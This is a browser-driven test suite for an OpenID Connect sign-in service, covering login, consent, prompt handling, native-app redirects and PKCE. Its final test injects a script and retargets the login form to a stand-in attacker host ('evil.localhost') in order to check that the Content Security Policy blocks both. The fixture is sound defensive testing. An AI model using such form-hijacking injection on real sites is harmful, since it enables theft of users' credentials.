import { describe, expect, it } from 'vitest';
import { aClient } from '../support/given.js';
import { aVisitor, signIn } from './support/chromium.js';
import { setStage } from './support/stage.js';

/** The challenge of RFC 7636 App. B, for requests whose code nobody redeems. */
const CHALLENGE = { code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM', code_challenge_method: 'S256' };

describe('signing in with a browser', () => {
  const stage = setStage();

  it('leads from a site of another origin through sign-in and consent and back (OIDC Core §3.1.2)', async () => {
    const { visitor, site, service, alice } = stage;
    const { page } = visitor;
    await page.goto(site.start());
    expect(new URL(page.url()).origin).toBe(service.issuer);
    expect(await page.textContent('h1')).toBe('Sign in');
    await signIn(page, alice);
    await page.click('#consent-allow');
    await page.waitForURL(`${site.origin}/callback**`);
    expect(await page.textContent('#outcome')).toBe('signed in');
    expect(site.last()).toMatchObject({
      scope: ['openid', 'profile', 'email'],
      claims: { sub: alice.id },
      userInfo: { sub: alice.id, email: alice.claims.email, name: alice.claims.name },
    });
  });

  it('takes the e-mail address for the username', async () => {
    const { visitor, site, alice } = stage;
    const { page } = visitor;
    await page.goto(site.start());
    await signIn(page, { ...alice, username: alice.claims.email ?? '' });
    await page.click('#consent-allow');
    await page.waitForURL(`${site.origin}/callback**`);
    expect(site.last().claims?.sub).toBe(alice.id);
  });

  it('says the same of a wrong password and of an unknown user, and then takes the right one', async () => {
    const { visitor, site, alice } = stage;
    const { page } = visitor;
    await page.goto(site.start());
    const texts: (string | null)[] = [];
    for (const username of [alice.username, 'nobody-here']) {
      await page.fill('#username', username);
      await page.fill('#password', 'a wrong one');
      const refused = page.waitForResponse((response) => response.request().method() === 'POST');
      await page.click('#sign-in');
      expect((await refused).status()).toBe(422);
      texts.push(await page.getByRole('alert').textContent());
      expect(await page.inputValue('#username')).toBe(username);
      expect(await page.inputValue('#password')).toBe('');
      expect(await page.evaluate('document.activeElement.id')).toBe('form-error');
    }
    expect(texts[0]).toContain("don't match");
    expect(texts[1]).toBe(texts[0]);
    await signIn(page, alice);
    await page.click('#consent-allow');
    await page.waitForURL(`${site.origin}/callback**`);
    expect(await page.textContent('#outcome')).toBe('signed in');
  });

  it('leads back with access_denied when the user cancels (RFC 6749 §4.1.2.1)', async () => {
    const { visitor, site } = stage;
    await visitor.page.goto(site.start());
    await visitor.page.click('#cancel');
    await visitor.page.waitForURL(`${site.origin}/callback**`);
    expect(site.last()).toEqual({ error: 'access_denied' });
  });

  it('fills in the login_hint and asks for the password all the same (OIDC Core §3.1.2.1)', async () => {
    const { visitor, site, alice } = stage;
    await visitor.page.goto(site.start({ login_hint: alice.username }));
    expect(await visitor.page.inputValue('#username')).toBe(alice.username);
    expect(await visitor.page.evaluate('document.activeElement.id')).toBe('password');
  });

  it('goes on after Back and from a second tab, and answers once', async () => {
    const { visitor, site, alice } = stage;
    const { page, context } = visitor;
    await page.goto(site.start());
    const second = await context.newPage();
    await second.goto(page.url());
    await signIn(page, alice);
    await page.waitForSelector('#consent-allow');
    await page.goBack();
    await page.waitForSelector('#consent-allow, #sign-in');
    // The second tab still shows the sign-in page of the same request.
    await signIn(second, alice);
    await second.click('#consent-allow');
    await second.waitForURL(`${site.origin}/callback**`);
    expect(await second.textContent('#outcome')).toBe('signed in');
    await page.reload();
    expect(await page.textContent('h1')).toBe('This sign-in is finished');
  });

  it('signs in at the account page without any client, and then in silence at a client', async () => {
    const { visitor, site, service, alice } = stage;
    const { page } = visitor;
    await page.goto(service.url('/'));
    expect(new URL(page.url()).pathname).toBe('/sign-in');
    await signIn(page, alice);
    await page.waitForURL(service.url('/account'));
    expect(await page.textContent('h1')).toBe('Your account');
    await page.goto(site.start());
    expect(await page.locator('#username').count()).toBe(0);
    await page.click('#consent-allow');
    await page.waitForURL(`${site.origin}/callback**`);
    await page.goto(site.start({ prompt: 'none' }));
    await page.waitForURL(`${site.origin}/callback**`);
    expect(await page.textContent('#outcome')).toBe('signed in');
  });

  it('asks for the password again with prompt=login, and lets the user choose with select_account', async () => {
    const { visitor, site, service, alice } = stage;
    const { page } = visitor;
    await page.goto(service.url('/account'));
    await signIn(page, alice);
    await page.goto(site.start({ prompt: 'login' }));
    expect(await page.textContent('h1')).toBe('Sign in again');
    await signIn(page, alice);
    await page.click('#consent-allow');
    await page.waitForURL(`${site.origin}/callback**`);
    await page.goto(site.start({ prompt: 'select_account' }));
    expect(await page.textContent('#current-account')).toContain(alice.claims.name);
    await page.click('#current-account');
    await page.waitForURL(`${site.origin}/callback**`);
    expect(site.last().claims?.sub).toBe(alice.id);
  });

  it('leaves the browser for the private-use scheme of an installed app (RFC 8252 §7.1)', async () => {
    const { visitor, service, alice } = stage;
    const { page } = visitor;
    const redirectUri = 'com.example.app:/callback';
    const app = await aClient(service, { clientName: 'Pocket', profile: 'native', redirectUris: [redirectUri] });
    const url = new URL(service.url('/oauth2/authorize'));
    const request = { response_type: 'code', scope: 'openid', state: 'kept', redirect_uri: redirectUri };
    url.search = new URLSearchParams({ ...request, ...CHALLENGE, client_id: app.clientId }).toString();
    const left = page.waitForRequest((asked) => asked.url().startsWith('com.example.app:'));
    await page.goto(url.href);
    await signIn(page, alice);
    await page.click('#consent-allow', { noWaitAfter: true });
    const answer = new URL((await left).url());
    expect(answer.pathname).toBe('/callback');
    expect(answer.searchParams.get('code')).toMatch(/^[\w-]{43}$/);
    expect(answer.searchParams.get('state')).toBe('kept');
    expect(answer.searchParams.get('iss')).toBe(service.issuer);
  });

  it('runs no script and posts no form that somebody smuggles into a page (RFC 9700 §4.16, CSP)', async () => {
    const { page, complaints, close } = await aVisitor(stage.browser);
    await page.goto(stage.site.start());
    const where = page.url();
    await page.evaluate(`{
      const script = document.createElement('script');
      script.textContent = 'document.title = "taken over"';
      document.body.append(script);
      const form = document.querySelector('form');
      form.action = 'http://evil.localhost:9/';
      form.submit();
    }`);
    await expect.poll(() => complaints.length).toBe(2);
    expect(complaints[0]).toContain('script');
    expect(complaints[1]).toContain('form-action');
    expect(await page.title()).not.toContain('taken over');
    expect(page.url()).toBe(where);
    await close();
  });
});
